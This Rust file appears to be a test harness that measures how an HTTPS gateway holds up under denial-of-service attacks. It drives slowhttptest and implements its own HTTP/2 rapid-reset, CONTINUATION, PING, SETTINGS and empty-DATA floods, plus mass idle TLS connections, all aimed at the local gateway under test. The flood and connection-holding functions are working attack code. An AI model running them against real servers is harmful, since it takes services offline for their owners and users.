//! The hostile clients: Debian's `slowhttptest`, and our own in a process of its own, all with a lower
//! priority than the rest, as they would be on other machines.

use std::io::Read;
use std::io::Write;
use std::net::SocketAddr;
use std::net::TcpStream;
use std::process::Child;
use std::process::Command;
use std::process::Stdio;
use std::thread;
use std::time::Duration;

use openssl::ssl::SslConnector;
use openssl::ssl::SslMethod;
use openssl::ssl::SslStream;
use openssl::ssl::SslVerifyMode;

use crate::frames;
use crate::support::Gateway;

/// An attack.
pub struct Attack {
    pub name: &'static str,
    /// For the table.
    pub what: &'static str,
    pub settings: &'static [(&'static str, &'static str)],
    /// That it may hold open.
    pub connections: u64,
    /// Of `slowhttptest`; empty: our own.
    slow: &'static [&'static str],
}

/// So that only what an attack does is measured, and not the number of places.
const ROOMY: &[(&str, &str)] = &[("GATEWAY__CONNECTIONS_MAX", "8192")];

const LIMITED: &[(&str, &str)] =
    &[("GATEWAY__CONNECTIONS_MAX", "8192"), ("GATEWAY__CONNECTIONS_PER_ADDRESS_MAX", "100")];

const fn own(name: &'static str, what: &'static str) -> Attack {
    Attack { name, what, settings: ROOMY, connections: 0, slow: &[] }
}

const fn slow(name: &'static str, what: &'static str, slow: &'static [&'static str]) -> Attack {
    Attack { name, what, settings: ROOMY, connections: 1000, slow }
}

/// All of them.
pub const ALL: &[Attack] = &[
    slow("slowloris", "slowloris: 1,000 heads that never end", &["-H", "-i", "5"]),
    slow("slow-body", "slow body: 1,000 uploads that drip", &["-B", "-i", "5", "-s", "8192"]),
    slow("slow-read", "slow read: 1,000 answers of 8 MB, 32 bytes at a time", {
        &["-X", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "1"]
    }),
    slow("range", "1,000 requests for 1,300 overlapping ranges", &["-R", "-a", "1", "-b", "1300"]),
    Attack { connections: 5000, ..own("idle", "5,000 idle TLS connections") },
    Attack {
        settings: LIMITED,
        ..own("one-address", "500 connections from one address, 100 let in")
    },
    own("rapid-reset", "HTTP/2 rapid reset, 4 clients"),
    own("continuation", "HTTP/2 CONTINUATION flood, 4 clients"),
    own("ping", "HTTP/2 PING flood, 4 clients"),
    own("settings", "HTTP/2 SETTINGS flood, 4 clients"),
    own("empty-data", "HTTP/2 empty DATA flood, 4 clients"),
];

impl Attack {
    /// Begins it; the processes are the caller's to end.
    pub fn start(&self, gateway: &Gateway, span: Duration) -> Vec<Child> {
        let mut command = Command::new("nice");
        command.args(["-n", "10"]);
        if self.slow.is_empty() {
            command.arg(std::env::current_exe().unwrap());
            command.args(["attack", self.name, &gateway.https.to_string()]);
        } else {
            let path = if self.name == "slow-read" { "large" } else { "" };
            let seconds = span.as_secs().to_string();
            command.args(["slowhttptest", "-c", "1000", "-r", "200", "-p", "3", "-l", &seconds]);
            command.args(self.slow).args(["-u", &format!("https://{}/{path}", gateway.https)]);
        }
        let child =
            command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
        vec![child.expect("`nice` starts; `apt-get install slowhttptest` for the slow clients")]
    }
}

/// The process of an own attack; its parent ends it.
pub fn run(name: &str, to: SocketAddr) {
    match name {
        "idle" => hold(to, 5000, |n| format!("127.0.1.{}:0", 1 + n % 50)),
        "one-address" => hold(to, 500, |_| "127.0.0.2:0".to_owned()),
        "rapid-reset" => flood(to, b"", |n| {
            let reset = frames::frame(frames::RST_STREAM, 0, 2 * n + 1, &[0, 0, 0, 8]);
            [frames::get(2 * n + 1), reset].concat()
        }),
        "continuation" => {
            let open = frames::frame(frames::HEADERS, 0, 1, &frames::block(&frames::GET));
            flood(to, &open, |_| {
                frames::frame(frames::CONTINUATION, 0, 1, &frames::block(&[("x", "y")]))
            });
        }
        "ping" => flood(to, b"", |_| frames::frame(frames::PING, 0, 0, &[7; 8])),
        "settings" => flood(to, b"", |_| frames::frame(frames::SETTINGS, 0, 0, &[])),
        "empty-data" => {
            let fields = [&[(":method", "POST")], &frames::GET[1..]].concat();
            let open =
                frames::frame(frames::HEADERS, frames::END_HEADERS, 1, &frames::block(&fields));
            flood(to, &open, |_| frames::frame(frames::DATA, 0, 1, &[]));
        }
        other => panic!("no attack is called {other}"),
    }
}

/// Made once: it reads the system's certificates.
fn connector(protocol: &[u8]) -> SslConnector {
    let mut builder = SslConnector::builder(SslMethod::tls_client()).unwrap();
    builder.set_verify(SslVerifyMode::NONE);
    builder.set_alpn_protos(protocol).unwrap();
    builder.build()
}

fn dial(from: &str, to: SocketAddr, connector: &SslConnector) -> Option<SslStream<TcpStream>> {
    let socket = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).ok()?;
    let from: SocketAddr = from.parse().ok()?;
    socket.bind(&from.into()).ok()?;
    socket.connect(&to.into()).ok()?;
    connector.connect("localhost", TcpStream::from(socket)).ok()
}

/// Keeps `count` connections open: makes those anew that are refused or ended.
fn hold(to: SocketAddr, count: usize, from: impl Fn(usize) -> String + Sync) {
    const THREADS: usize = 4;
    let connector = connector(b"\x08http/1.1");
    thread::scope(|scope| {
        for first in 0..THREADS {
            let (from, connector) = (&from, &connector);
            scope.spawn(move || {
                let mine = (first..count).step_by(THREADS);
                let mut open: Vec<(usize, Option<SslStream<TcpStream>>)> =
                    mine.map(|n| (n, None)).collect();
                loop {
                    for (n, stream) in &mut open {
                        if stream.as_mut().is_none_or(|stream| is_over(stream.get_mut())) {
                            *stream = dial(&from(*n), to, connector);
                        }
                    }
                    thread::park_timeout(Duration::from_millis(100));
                }
            });
        }
    });
}

/// True once the gateway has ended it; session tickets are there to be read all the same.
fn is_over(stream: &mut TcpStream) -> bool {
    let mut ticket = [0; 1024];
    let _: std::io::Result<()> = stream.set_nonblocking(true);
    matches!(stream.read(&mut ticket), Ok(0))
}

/// Sends what comes first and then bursts, as fast as it goes, on one connection after the other.
fn flood(to: SocketAddr, first: &[u8], again: fn(u32) -> Vec<u8>) {
    const CLIENTS: usize = 4;
    let connector = connector(b"\x02h2");
    thread::scope(|scope| {
        for client in 0..CLIENTS {
            let connector = &connector;
            scope.spawn(move || {
                loop {
                    let from = format!("127.0.2.{}:0", 1 + client);
                    let Some(mut stream) = dial(&from, to, connector) else { continue };
                    let hello =
                        [frames::PREFACE, &frames::frame(frames::SETTINGS, 0, 0, &[]), first];
                    let mut going = stream.write_all(&hello.concat()).is_ok();
                    let mut n = 0;
                    while going {
                        let burst: Vec<u8> = (n..n + 100).flat_map(again).collect();
                        going = stream.write_all(&burst).is_ok();
                        n += 100;
                    }
                }
            });
        }
    });
}
